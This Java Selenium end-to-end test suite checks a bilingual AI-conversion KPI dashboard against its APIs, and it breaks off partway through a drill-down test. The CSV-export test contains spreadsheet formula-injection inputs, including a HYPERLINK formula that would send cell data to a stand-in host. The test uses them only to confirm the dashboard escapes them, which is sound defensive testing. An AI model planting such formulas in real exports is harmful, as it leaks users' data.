package aikpi.e2e;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.math.BigDecimal;
import java.math.RoundingMode;
import java.text.DecimalFormat;
import java.text.DecimalFormatSymbols;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.openqa.selenium.By;
import org.openqa.selenium.JavascriptExecutor;
import org.openqa.selenium.OutputType;
import org.openqa.selenium.TakesScreenshot;
import org.openqa.selenium.WebDriver;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.support.ui.Select;
import org.openqa.selenium.support.ui.WebDriverWait;

/**
 * The suite as a newcomer gets it: the four services from their jars, the demo data loaded through their APIs, and
 * the dashboard in a real (headless) Chromium. Checks that the charts render, that the numbers shown are the API's,
 * that the reviews match the API for the executive and show a unit's lead only that unit, that the page asks for
 * nothing that is not there, and saves one screenshot per language ({@code e2e-tests/target/dashboard.png}, Chinese;
 * {@code dashboard-en.png}) and one of a lead's view ({@code dashboard-lead.png}).
 */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class DashboardEndToEndTest {

    private static final ObjectMapper JSON = new ObjectMapper();

    private static RunningSuite suite;
    private static WebDriver browser;
    private static Path target;
    private static Path logs;

    @BeforeAll
    static void startSuite() throws Exception {
        HeadlessChromium.assumeInstalled();
        Path root = Path.of(System.getProperty("suite.root", "..")).toAbsolutePath().normalize();
        for (String module : List.of("tongyi-service", "quark-service", "cloud-billing-service", "gateway", "demo-data")) {
            assumeTrue(Files.exists(RunningSuite.jar(root, module)), module + " is not packaged; run mvn verify from the root");
        }
        target = root.resolve("e2e-tests").resolve("target");
        Path work = Files.createTempDirectory(target, "suite-");
        logs = work.resolve("logs");
        suite = new RunningSuite(root, work);
        suite.start();
        String loaderOutput = suite.loadDemoData();
        assertThat(loaderOutput).contains("Demo data loaded");
        suite.awaitCompleteView(List.of("2024-Q4", "2025-Q3"), Duration.ofSeconds(120));

        browser = HeadlessChromium.start(target);
    }

    @AfterAll
    static void stopSuite() throws Exception {
        if (browser != null) {
            browser.quit();
        }
        if (suite != null) {
            suite.close();
        }
    }

    private static JsonNode api(String path) throws Exception {
        return JSON.readTree(suite.get("gateway", path));
    }

    /** Opens the dashboard on a period's overview in Chinese, signing in first when the page asks. */
    private static void open(String period) {
        open(period, "overview", "zh");
    }

    /**
     * Opens the dashboard on a period, a section and a language, as a shared link would, signing in first when the
     * page asks (the first time in this browser tab).
     */
    private static void open(String period, String section, String lang) {
        browser.get(suite.url("gateway") + "/dashboard/index.html?period=" + period + "&section=" + section + "&lang=" + lang);
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
        wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded")));
        if (browser.findElement(By.id("sign-in")).isDisplayed()) {
            // A development run offers the executive's development credentials.
            assertThat(browser.findElement(By.id("username")).getAttribute("value")).isEqualTo("executive");
            assertThat(browser.findElement(By.id("kpi-cloud-share")).getText()).isEmpty();
            browser.findElement(By.id("sign-in-submit")).click();
        }
        wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded"))
                && !d.findElement(By.id("kpi-cloud-share")).getAttribute("textContent").isEmpty());
    }

    /** Shows another section, as a reader clicking its tab. */
    private static void section(String name) {
        browser.findElement(By.cssSelector("#sections a[data-goto='" + name + "']")).click();
        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> name.equals(
                d.findElement(By.tagName("body")).getAttribute("data-section")));
    }

    private static void awaitLoaded() {
        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> "true".equals(
                d.findElement(By.tagName("body")).getAttribute("data-loaded"))
                && !d.findElement(By.id("kpi-cloud-share")).getAttribute("textContent").isEmpty());
    }

    private static Object js(String script) {
        return ((JavascriptExecutor) browser).executeScript(script);
    }

    private static BigDecimal shown(String testId) {
        String raw = browser.findElement(By.cssSelector("[data-testid='" + testId + "']")).getAttribute("data-value");
        return raw == null || raw.isEmpty() ? null : new BigDecimal(raw);
    }

    @Test
    @Order(1)
    void theArticlesQuarterShowsTheApisFiguresAndEveryChartRenders() throws Exception {
        open("2024-Q4");
        JsonNode view = api("/api/v1/executive/ai-conversion?period=2024-Q4");
        assertThat(view.path("complete").asBoolean()).isTrue();
        assertThat(view.path("cloud").path("share").decimalValue()).isEqualByComparingTo("0.113302");

        assertThat(shown("cloud-share")).isEqualByComparingTo(view.path("cloud").path("share").decimalValue());
        assertThat(browser.findElement(By.id("kpi-cloud-share")).getText()).isEqualTo("11.33%");
        assertThat(shown("gap-pp")).isEqualByComparingTo(view.path("cloud").path("gapPp").decimalValue());
        assertThat(shown("ai-revenue")).isEqualByComparingTo(view.path("ai").path("attributedRevenueCny").decimalValue());
        assertThat(shown("ai-cash")).isEqualByComparingTo(view.path("ai").path("cashRevenueCny").decimalValue());
        assertThat(shown("ai-voucher")).isEqualByComparingTo(view.path("ai").path("voucherRevenueCny").decimalValue());
        assertThat(shown("ai-margin")).isEqualByComparingTo(view.path("ai").path("marginCny").decimalValue());
        assertThat(shown("resolution-rate")).isEqualByComparingTo(view.path("toC").path("resolutionRate").decimalValue());
        // Every amount is CNY; the note under the share names the currencies the ledger's revenue was billed in.
        List<String> currencies = names(view.path("cloud").path("ledgerCurrencies"), "currency");
        assertThat(currencies).isNotEmpty();
        assertThat(browser.findElement(By.id("ledger-currencies")).getAttribute("data-currencies"))
                .isEqualTo(String.join(",", currencies));

        // Each chart has an ECharts instance with data drawn on a canvas; the trend charts are the Revenue section's.
        section("revenue");
        assertThat(browser.findElement(By.id("chart-share")).isDisplayed()).isTrue();
        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isFalse();
        for (String id : List.of("chart-share", "chart-ai-revenue")) {
            Long points = (Long) js("const c = echarts.getInstanceByDom(document.getElementById('" + id + "'));"
                    + "return c ? c.getOption().series[0].data.filter(x => x !== null).length : -1;");
            assertThat(points).as(id).isPositive();
            assertThat(browser.findElement(By.id(id)).findElements(By.tagName("canvas"))).as(id).isNotEmpty();
        }
        // The share chart draws the quarters the trend API gives, with the 11% baseline line.
        JsonNode trend = api("/api/v1/executive/ai-conversion/trend?from=2023-Q1&to=2024-Q4");
        List<?> drawn = (List<?>) js("return echarts.getInstanceByDom(document.getElementById('chart-share'))"
                + ".getOption().series[0].data;");
        assertThat(drawn).hasSize(trend.size());
        assertThat(new BigDecimal(drawn.get(drawn.size() - 1).toString())).isEqualByComparingTo(
                trend.get(trend.size() - 1).path("cloudShare").decimalValue());
        assertThat(js("return echarts.getInstanceByDom(document.getElementById('chart-share'))"
                + ".getOption().series[0].markLine.data[0].yAxis;").toString()).isEqualTo("0.11");

        // Sources and the synthetic-data notice.
        assertThat(browser.findElements(By.cssSelector(".source[data-status='OK']"))).hasSize(3);
        assertThat(browser.findElement(By.id("demo-notice")).isDisplayed()).isTrue();

        // The To-B and To-C figures are separate tiles, not funnels: their populations are not nested.
        assertThat(shownFigure("figures-tob", "paying-customers"))
                .isEqualByComparingTo(view.path("toB").path("funnel").path("payingCustomers").decimalValue());
        assertThat(shownFigure("figures-tob", "customers-with-usage"))
                .isEqualByComparingTo(view.path("toB").path("funnel").path("customersWithUsage").decimalValue());
        assertThat(shownFigure("figures-toc", "ai-sessions"))
                .isEqualByComparingTo(view.path("toC").path("funnel").path("aiSessions").decimalValue());
        assertThat(shownFigure("figures-toc", "ai-users"))
                .isEqualByComparingTo(view.path("toC").path("funnel").path("aiUsers").decimalValue());
        assertThat(browser.findElements(By.cssSelector(".chart canvas"))).isNotEmpty();
        assertThat((Long) js("return document.querySelectorAll('[data-testid=chart-tob], [data-testid=chart-toc]').length;"))
                .isZero();

        // The trend's axis shows one name per quarter; both names are in the tooltip.
        List<?> labels = (List<?>) js("return echarts.getInstanceByDom(document.getElementById('chart-share'))"
                + ".getOption().xAxis[0].data;");
        assertThat(labels).allSatisfy(l -> assertThat(l.toString()).matches("\\d{4}-Q\\d"));

        // Nothing the page asked for was missing (a 404 shows in the console as a failed resource).
        assertThat(HeadlessChromium.consoleErrors(browser)).as("console errors").isEmpty();
        Files.write(target.resolve("dashboard.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
    }

    /** A JSON number as plain decimal text whatever its written form (1, 1.0, 1.000000): "1". */
    private static String plain(JsonNode number) {
        return number.isNull() ? "null" : number.decimalValue().stripTrailingZeros().toPlainString();
    }

    private static BigDecimal shownFigure(String box, String figure) {
        String raw = browser.findElement(By.cssSelector("#" + box + " [data-figure='" + figure + "']")).getAttribute("data-value");
        return raw == null || raw.isEmpty() ? null : new BigDecimal(raw);
    }

    @Test
    @Order(2)
    void aVanityAlertFiresForTheAssistantAndScorecardsMatchTheApi() throws Exception {
        open("2025-Q3");
        JsonNode view = api("/api/v1/executive/ai-conversion?period=2025-Q3");
        List<String> apiAlerts = new ArrayList<>();
        view.path("alerts").forEach(a -> apiAlerts.add(a.path("id").asText() + ":" + a.path("scope").asText()));
        // The synthetic story: the Tongyi assistant talks more and resolves less.
        assertThat(apiAlerts).contains("turns-up-resolution-not:tongyi-app");
        List<WebElement> shownAlerts = browser.findElements(By.cssSelector("#alerts li[data-alert]"));
        assertThat(shownAlerts).extracting(e -> e.getAttribute("data-alert")).containsExactlyElementsOf(apiAlerts);

        JsonNode cards = api("/api/v1/executive/business-units?period=2025-Q3");
        section("units");
        List<WebElement> rows = browser.findElements(By.cssSelector("#scorecards tbody tr"));
        assertThat(rows).hasSize(cards.path("businessUnits").size());
        JsonNode first = cards.path("businessUnits").get(0);
        assertThat(rows.get(0).getAttribute("data-business-unit")).isEqualTo(first.path("businessUnit").asText());
        String sessions = rows.get(0).findElement(By.cssSelector("td[data-field='aiSessions']")).getText();
        assertThat(sessions).startsWith(String.format("%,d", first.path("current").path("aiSessions").asLong()));
        Files.write(target.resolve("dashboard-2025-Q3.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
    }

    @Test
    @Order(3)
    void theRetentionHeatMapAndCurvesShowTheApisCohortsAndTheTongyiAppsAiUsersLeavingSooner() throws Exception {
        open("2025-Q3", "retention", "zh");
        JsonNode view = api("/api/v1/executive/ai-conversion?period=2025-Q3");
        JsonNode tongyi = null;
        for (JsonNode a : view.path("toC").path("apps")) {
            if (a.path("appId").asText().equals("tongyi-app")) {
                tongyi = a;
            }
        }
        assertThat(tongyi).isNotNull();
        // The synthetic story: from 2025 the Tongyi app's AI users stay less than its others, while they grow.
        assertThat(tongyi.path("aiLiftPp").decimalValue()).isNegative();
        assertThat(view.path("alerts").toString()).contains("ai-users-up-lift-not");
        WebElement row = browser.findElement(By.cssSelector("#retention-apps tr[data-app='tongyi-app'] td[data-field='aiLiftPp']"));
        assertThat(row.getText()).isEqualTo(String.format("%.2f pp", tongyi.path("aiLiftPp").decimalValue()));

        new Select(browser.findElement(By.id("retention-app"))).selectByValue("tongyi-app");
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(30));
        wait.until(d -> "tongyi-app".equals(d.findElement(By.id("chart-retention-heatmap")).getAttribute("data-app")));
        // Every cell drawn is the API's: cohort, offset, users and share.
        JsonNode table = api("/api/v1/executive/apps/tongyi-app/retention?cohort=week&from=2025-07-01&to=2025-09-30&segment=all");
        List<String> expected = new ArrayList<>();
        table.path("cohorts").forEach(c -> c.path("offsets").forEach(o -> expected.add(c.path("start").asText() + "/"
                + o.path("offset").asInt() + "/" + o.path("users").asLong() + "/" + plain(o.path("share")))));
        JsonNode drawnCells = JSON.readTree(browser.findElement(By.id("chart-retention-heatmap")).getAttribute("data-cells"));
        List<String> shownCells = new ArrayList<>();
        drawnCells.forEach(c -> shownCells.add(c.get(0).asText() + "/" + c.get(1).asInt() + "/" + c.get(2).asLong() + "/"
                + plain(c.get(3))));
        assertThat(shownCells).isNotEmpty().containsExactlyElementsOf(expected);
        assertThat((Long) js("return echarts.getInstanceByDom(document.getElementById('chart-retention-heatmap'))"
                + ".getOption().series[0].data.length;")).isEqualTo(expected.size());
        // The mean curves: the AI users' week 4 under the others'.
        JsonNode ai = JSON.readTree(browser.findElement(By.id("chart-retention-curves")).getAttribute("data-ai"));
        JsonNode others = JSON.readTree(browser.findElement(By.id("chart-retention-curves")).getAttribute("data-non-ai"));
        assertThat(ai.get(4).asDouble()).isLessThan(others.get(4).asDouble());
        assertThat((String) js("return window.dashboardCsv('retention');"))
                .startsWith("app,segment,cohort_start,cohort_size,offset,window_start,users,share,partial\ntongyi-app,all,");
        Files.write(target.resolve("dashboard-retention.png"),
                browser.findElement(By.id("retention-panel")).getScreenshotAs(OutputType.BYTES));
        section("units");
        WebElement unitRow = browser.findElement(By.cssSelector("#scorecards tr[data-business-unit='tongyi-app'] td[data-field='aiLiftPp']"));
        assertThat(unitRow.getText()).endsWith(" pp").startsWith("-");
    }

    @Test
    @Order(4)
    void labelsSwitchToEnglishAndEveryFigureDownloadsAsCsv() throws Exception {
        open("2024-Q4");
        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI 转化看板");
        browser.findElement(By.id("lang")).click();
        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI conversion dashboard");

        JsonNode trend = api("/api/v1/executive/ai-conversion/trend?from=2023-Q1&to=2024-Q4");
        String csv = (String) js("return window.dashboardCsv('aiRevenue');");
        String[] lines = csv.strip().split("\n");
        assertThat(lines[0]).isEqualTo("period,fiscal_period,ai_revenue_cny,ai_cash_cny,ai_voucher_cny,ai_margin_cny");
        assertThat(lines).hasSize(trend.size() + 1);
        assertThat(lines[lines.length - 1]).startsWith("2024-Q4,FY2025-Q3,"
                + trend.get(trend.size() - 1).path("aiRevenueCny").decimalValue().toPlainString());
        for (String figure : List.of("share", "toB", "toC", "alerts", "scorecards", "reviews", "retention")) {
            assertThat((String) js("return window.dashboardCsv('" + figure + "');")).as(figure).contains(",");
        }
        // A KPI's row carries its id and its name in the page's language; the value stays the API's raw number.
        JsonNode view = api("/api/v1/executive/ai-conversion?period=2024-Q4");
        assertThat((String) js("return window.dashboardCsv('toC');")).startsWith("figure,kpi,kpi_name,value\nmau,toc-mau,"
                + "Monthly active users," + view.path("toC").path("funnel").path("mau").decimalValue().stripTrailingZeros().toPlainString() + "\n");
        // A cell a spreadsheet would run as a formula is downloaded as quoted text; numbers stay as they are.
        assertThat((String) js("return ['=HYPERLINK(\"http://x.example/?\"&A1)', '=1+2', '@SUM(A1)', '+1+2', '-1+2',"
                + " '\\tx', '\\r=1', 'x;=1', -12.5, '-12.50', '+3', null, 'acme']"
                + ".map(window.dashboardCsvCell).join(',');"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",\"'=1+2\",\"'@SUM(A1)\",\"'+1+2\",\"'-1+2\","
                        + "\"'\tx\",\"'\r=1\",\"x;=1\",-12.5,-12.50,+3,,acme");
        Files.write(target.resolve("dashboard-en.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
    }

    @Test
    @Order(5)
    void theReviewsShowTheApisScoresAndTheTongyiAppsSessionsScoreNothingUnderItsFloor() throws Exception {
        // The API first, then the page: the page is asked within the gateway's answer cache and so shows the same
        // sources' answers, where two computations under load could each meet a different source timing out.
        JsonNode review = api("/api/v1/executive/reviews?period=2025-Q3");
        open("2025-Q3", "reviews", "zh");
        assertThat(review.path("period").asText()).isEqualTo("FY2026-Q2");
        reviewShownAsTheApiAnswers(review);
        // The article's warning: the Tongyi app reached its session target, and it does not count.
        WebElement sessions = browser.findElement(By.cssSelector(
                "#reviews .review[data-scope='tongyi-app'] tr[data-kpi='toc-ai-sessions']"));
        assertThat(sessions.getAttribute("data-status")).isEqualTo("MET");
        assertThat(sessions.getAttribute("data-counted")).isEqualTo("false");
        assertThat(sessions.getAttribute("title")).contains("assistant-resolution-rate");
        Files.write(target.resolve("dashboard-reviews.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
    }

    @Test
    @Order(6)
    void aFiscalYearIsReviewedAsAWholeWithItsQuartersInTheTrend() throws Exception {
        JsonNode review = api("/api/v1/executive/reviews?period=FY2026");
        open("FY2026");
        assertThat(review.path("period").asText()).isEqualTo("FY2026");
        reviewShownAsTheApiAnswers(review);
        List<?> labels = (List<?>) js("return echarts.getInstanceByDom(document.getElementById('chart-share'))"
                + ".getOption().xAxis[0].data;");
        assertThat(labels).extracting(Object::toString).containsExactly("2025-Q2", "2025-Q3", "2025-Q4", "2026-Q1");
        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
    }

    @Test
    @Order(7)
    void aUnitsLeadSeesOnlyItsOwnUnit() throws Exception {
        browser.get(suite.url("gateway") + "/dashboard/index.html?period=2025-Q3");
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
        wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded")));
        if (!browser.findElement(By.id("sign-in")).isDisplayed()) {
            browser.findElement(By.id("sign-out")).click();
            wait.until(d -> d.findElement(By.id("sign-in")).isDisplayed());
        }
        browser.findElement(By.id("username")).clear();
        browser.findElement(By.id("username")).sendKeys("lead-tongyi-app");
        browser.findElement(By.id("password")).clear();
        browser.findElement(By.id("password")).sendKeys("kpi-dev");
        browser.findElement(By.id("sign-in-submit")).click();
        wait.until(d -> "tongyi-app".equals(d.findElement(By.tagName("body")).getAttribute("data-unit"))
                && "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded"))
                && !d.findElements(By.cssSelector("#reviews .review")).isEmpty());
        assertThat(browser.findElements(By.cssSelector("#reviews .review"))).extracting(b -> b.getAttribute("data-scope"))
                .containsExactly("tongyi-app");
        assertThat(browser.findElements(By.cssSelector("#scorecards tbody tr")))
                .extracting(r -> r.getAttribute("data-business-unit")).containsExactly("tongyi-app");
        assertThat(browser.findElement(By.id("executive-only")).isDisplayed()).isFalse();
        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
        JsonNode review = api("/api/v1/executive/reviews/tongyi-app?period=2025-Q3");
        assertThat(new BigDecimal(browser.findElement(By.cssSelector("#reviews .review")).getAttribute("data-score")))
                .isEqualByComparingTo(review.path("scopes").get(0).path("score").decimalValue());
        Files.write(target.resolve("dashboard-lead.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
        // Back to the executive for any later test.
        browser.findElement(By.id("sign-out")).click();
    }

    @Test
    @Order(8)
    void theSealedQuarterShowsItsSealTheLiveFiguresBesideItAndWhatChangedSinceWithTheCauses() throws Exception {
        open("2025-Q2", "reviews", "zh");
        JsonNode review = api("/api/v1/executive/reviews?period=2025-Q2");
        assertThat(review.path("period").asText()).isEqualTo("FY2026-Q1");
        JsonNode seal = review.path("sealed");
        assertThat(seal.path("version").asInt()).isGreaterThanOrEqualTo(1);
        WebElement badge = browser.findElement(By.id("seal-badge"));
        assertThat(badge.getAttribute("data-sealed")).isEqualTo(seal.path("version").asText());
        assertThat(badge.getText()).contains("已封存").contains(seal.path("sealedBy").asText());
        // The review shown is the sealed one, figure for figure.
        reviewShownAsTheApiAnswers(review);

        // The demo sent a late June bill, a day of taobao-dp again and late usage after the seal: the changes
        // table lists what moved and why, as the API says.
        JsonNode changes = api("/api/v1/executive/reviews/FY2026-Q1/changes");
        assertThat(changes.path("changed").asBoolean()).isTrue();
        assertThat(browser.findElement(By.id("review-changes")).isDisplayed()).isTrue();
        List<String> moved = new ArrayList<>();
        changes.path("kpis").forEach(k -> moved.add(k.path("scope").asText() + "/" + k.path("kpiId").asText()));
        assertThat(browser.findElements(By.cssSelector("#changes-kpis tr")))
                .extracting(r -> r.getAttribute("data-scope") + "/" + r.getAttribute("data-kpi"))
                .containsExactlyElementsOf(moved);
        assertThat(browser.findElements(By.cssSelector("#changes-causes tr"))).extracting(r -> r.getAttribute("data-kind"))
                .contains("IMPORT", "DAY_SENT_AGAIN", "LATE_EVENTS");
        assertThat(names(changes.path("kpis"), "kpiId")).contains("toc-ai-sessions", "tob-tokens", "ai-cash-revenue");

        // The live figures beside the sealed ones: the group's AI sessions moved by the sessions found again.
        browser.findElement(By.id("live-toggle")).click();
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
        wait.until(d -> "true".equals(d.findElement(By.tagName("body")).getAttribute("data-loaded"))
                && !d.findElements(By.cssSelector("#reviews td.live")).isEmpty());
        JsonNode live = api("/api/v1/executive/reviews?period=2025-Q2&as=live");
        JsonNode liveSessions = null;
        for (JsonNode k : live.path("scopes").get(0).path("kpis")) {
            if (k.path("kpiId").asText().equals("toc-ai-sessions")) {
                liveSessions = k;
            }
        }
        assertThat(live.path("scopes").get(0).path("scope").asText()).isEqualTo("group");
        WebElement row = browser.findElement(By.cssSelector("#reviews .review[data-scope='group'] tr[data-kpi='toc-ai-sessions']"));
        WebElement liveCell = row.findElement(By.cssSelector("td.live"));
        assertThat(new BigDecimal(liveCell.getAttribute("data-live-actual")))
                .isEqualByComparingTo(liveSessions.path("actual").decimalValue());
        assertThat(new BigDecimal(liveCell.getAttribute("data-live-actual"))
                .subtract(new BigDecimal(row.getAttribute("data-actual")))).isEqualByComparingTo("1800000");
        assertThat(liveCell.getAttribute("class")).contains("moved");

        browser.findElement(By.id("lang")).click();
        assertThat(browser.findElement(By.cssSelector("#review-changes h3")).getText()).isEqualTo("Changes since the seal");
        assertThat(browser.findElement(By.id("seal-badge")).getText()).startsWith("Sealed version");
        js("document.getElementById('reviews-panel').scrollIntoView()");
        Files.writeString(target.resolve("sealed-changes.json"), changes.toPrettyString());
        Files.write(target.resolve("dashboard-sealed.png"), ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
        browser.findElement(By.id("lang")).click();
    }

    @Test
    @Order(9)
    void everyKpiShowsByItsNameAndEveryNumberAsPeopleReadItInBothLanguages() throws Exception {
        JsonNode names = api("/api/v1/dashboard/names");
        JsonNode view = api("/api/v1/executive/ai-conversion?period=2025-Q3");
        List<String> ids = new ArrayList<>();
        names.path("kpis").fieldNames().forEachRemaining(ids::add);
        assertThat(ids).contains("toc-mau", "ai-cash-revenue", "toc-ai-sessions");
        for (String lang : List.of("zh", "en")) {
            open("2025-Q3", "overview", lang);
            assertThat(browser.findElement(By.tagName("html")).getAttribute("lang")).startsWith(lang);
            // No section shows a KPI's id: ids are in tooltips (title attributes) only.
            for (String section : List.of("overview", "reviews", "units", "retention", "revenue", "models")) {
                section(section);
                String text = (String) js("return document.body.innerText;");
                for (String id : ids) {
                    assertThat(Pattern.compile("(?<![\\w-])" + Pattern.quote(id) + "(?![\\w-])").matcher(text).find())
                            .as("the %s page's %s section shows the id %s", lang, section, id).isFalse();
                }
            }
            // The reviews name each KPI and status in the page's language, the id in the tooltip.
            section("reviews");
            List<WebElement> rows = browser.findElements(By.cssSelector("#reviews tr[data-kpi]"));
            assertThat(rows).isNotEmpty();
            for (WebElement row : rows) {
                String id = row.getAttribute("data-kpi");
                WebElement name = row.findElement(By.cssSelector(".kpi-name"));
                assertThat(name.getText()).isEqualTo(names.path("kpis").path(id).path(lang).asText());
                assertThat(name.getAttribute("title")).startsWith(id);
                assertThat(row.findElement(By.cssSelector(".status")).getText())
                        .isEqualTo(names.path("statuses").path(row.getAttribute("data-status")).path(lang).asText());
            }
            // The vanity alerts in the page's language.
            section("overview");
            JsonNode turns = null;
            for (JsonNode a : view.path("alerts")) {
                if ((a.path("id").asText() + ":" + a.path("scope").asText()).equals("turns-up-resolution-not:tongyi-app")) {
                    turns = a;
                }
            }
            assertThat(turns).isNotNull();
            assertThat(browser.findElement(By.cssSelector("#alerts li[data-alert='turns-up-resolution-not:tongyi-app']")).getText())
                    .contains(turns.path("text").path(lang).asText())
                    .contains(names.path("kpis").path("toc-turns").path(lang).asText());
            // Money in 亿/万 or B/M, shares with one or two decimals.
            assertThat(browser.findElement(By.id("kpi-ai-revenue")).getText())
                    .isEqualTo(money(view.path("ai").path("attributedRevenueCny").decimalValue(), lang));
            assertThat(browser.findElement(By.id("kpi-ai-cash")).getText())
                    .isEqualTo(money(view.path("ai").path("cashRevenueCny").decimalValue(), lang));
            assertThat(browser.findElement(By.id("kpi-ai-revenue")).getText()).matches(lang.equals("zh")
                    ? "-?¥[\\d,]+\\.\\d{2}[亿万]?" : "-?¥[\\d,]+\\.\\d{2}[BM]?");
            assertThat(browser.findElement(By.id("kpi-cloud-share")).getText())
                    .isEqualTo(percent(view.path("cloud").path("share").decimalValue()));
            // People are counted whole: MAU is an average of monthly counts, shown as a whole number.
            section("retention");
            BigDecimal mau = view.path("toC").path("funnel").path("mau").decimalValue();
            String shownMau = browser.findElement(By.cssSelector("#figures-toc [data-figure='mau'] .value")).getText();
            assertThat(shownMau).doesNotContain(".").isEqualTo(String.format(Locale.US, "%,d",
                    mau.setScale(0, RoundingMode.HALF_UP).longValueExact()));
            Files.write(target.resolve("dashboard-names-" + lang + ".png"),
                    ((TakesScreenshot) browser).getScreenshotAs(OutputType.BYTES));
        }
    }

    /** Money as the page writes it, worked out here: ¥ and two decimals, in 亿/万 (Chinese) or B/M (English). */
    private static String money(BigDecimal amount, String lang) {
        String[][] scales = lang.equals("zh") ? new String[][] {{"100000000", "亿"}, {"10000", "万"}}
                : new String[][] {{"1000000000", "B"}, {"1000000", "M"}};
        BigDecimal a = amount.abs();
        String sign = amount.signum() < 0 ? "-" : "";
        for (String[] scale : scales) {
            BigDecimal size = new BigDecimal(scale[0]);
            if (a.compareTo(size) >= 0) {
                return sign + "¥" + grouped(a.divide(size), "#,##0.00") + scale[1];
            }
        }
        return sign + "¥" + grouped(a, "#,##0.00");
    }

    /** A share as a percentage with one or two decimals. */
    private static String percent(BigDecimal share) {
        return grouped(share.movePointRight(2), "#,##0.0#") + "%";
    }

    private static String grouped(BigDecimal value, String pattern) {
        DecimalFormat format = new DecimalFormat(pattern, DecimalFormatSymbols.getInstance(Locale.US));
        format.setRoundingMode(RoundingMode.HALF_UP);
        return format.format(value);
    }

    @Test
    @Order(10)
    void theAddressKeepsTheSectionPeriodAndLanguageAcrossAReloadAndBackAndForward() throws Exception {
        open("2025-Q3", "overview", "zh");
        browser.findElement(By.id("lang")).click();
        section("units");
        new Select(browser.findElement(By.id("period"))).selectByValue("2024-Q4");
        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> d.getCurrentUrl().contains("period=2024-Q4"));
        awaitLoaded();
        assertThat(browser.getCurrentUrl()).contains("period=2024-Q4").contains("lang=en").contains("section=units");

        // A reload (or the link sent to a colleague) opens the same view.
        browser.navigate().refresh();
        awaitLoaded();
        assertThat(new Select(browser.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value"))
                .isEqualTo("2024-Q4");
        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI conversion dashboard");
        assertThat(browser.findElement(By.tagName("body")).getAttribute("data-section")).isEqualTo("units");
        assertThat(browser.findElement(By.id("scorecards")).isDisplayed()).isTrue();
        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isFalse();
        assertThat(browser.findElement(By.cssSelector("#sections a.active")).getText()).isEqualTo("Units");

        // Back: the previous period, same section and language; back again: the overview; forward: the units.
        browser.navigate().back();
        new WebDriverWait(browser, Duration.ofSeconds(60)).until(d -> d.getCurrentUrl().contains("period=2025-Q3")
                && "2025-Q3".equals(new Select(d.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value")));
        awaitLoaded();
        assertThat(new Select(browser.findElement(By.id("period"))).getFirstSelectedOption().getAttribute("value"))
                .isEqualTo("2025-Q3");
        assertThat(browser.findElement(By.tagName("body")).getAttribute("data-section")).isEqualTo("units");
        browser.navigate().back();
        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "overview".equals(
                d.findElement(By.tagName("body")).getAttribute("data-section")));
        assertThat(browser.findElement(By.id("kpi-cloud-share")).isDisplayed()).isTrue();
        browser.navigate().back();
        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "AI 转化看板".equals(
                d.findElement(By.tagName("h1")).getText()));
        browser.navigate().forward();
        browser.navigate().forward();
        new WebDriverWait(browser, Duration.ofSeconds(10)).until(d -> "units".equals(
                d.findElement(By.tagName("body")).getAttribute("data-section")));
        assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("AI conversion dashboard");
    }

    /**
     * A click on a headline figure opens its drill-down: the drivers of its change as a waterfall, adding up to the
     * change shown (and to the drivers API's change), and its breakdown by unit, whose rows open the unit's level.
     */
    @Test
    @Order(11)
    void aClickOnAHeadlineFigureOpensItsDriversWhichAddUpToTheChangeShown() throws Exception {
        open("2025-Q3", "overview", "zh");
        browser.findElement(By.cssSelector(".card[data-kpi='ai-attributed-revenue']")).click();
        WebDriverWait wait = new WebDriverWait(browser, Duration.ofSeconds(60));
        wait.until(d -> "true".equals(d.findElement(By.id("drill")).getAttribute("data-loaded")));
        WebElement drill = browser.findElement(By.id("drill"));
        assertThat(drill.isDisplayed()).isTrue();
        assertThat(drill.getAttribute("data-kpi")).isEqualTo("ai-attributed-revenue");
        assertThat(browser.findElement(By.id("drill-title")).getText()).isEqualTo("AI 归因收入");
        assertThat(browser.findElement(By.id("error")).isDisplayed()).isFalse();
        boolean drivers = browser.findElement(By.id("drill-drivers-box")).isDisplayed();
        boolean breakdown = browser.findElement(By.id("drill-breakdown-box")).isDisplayed();
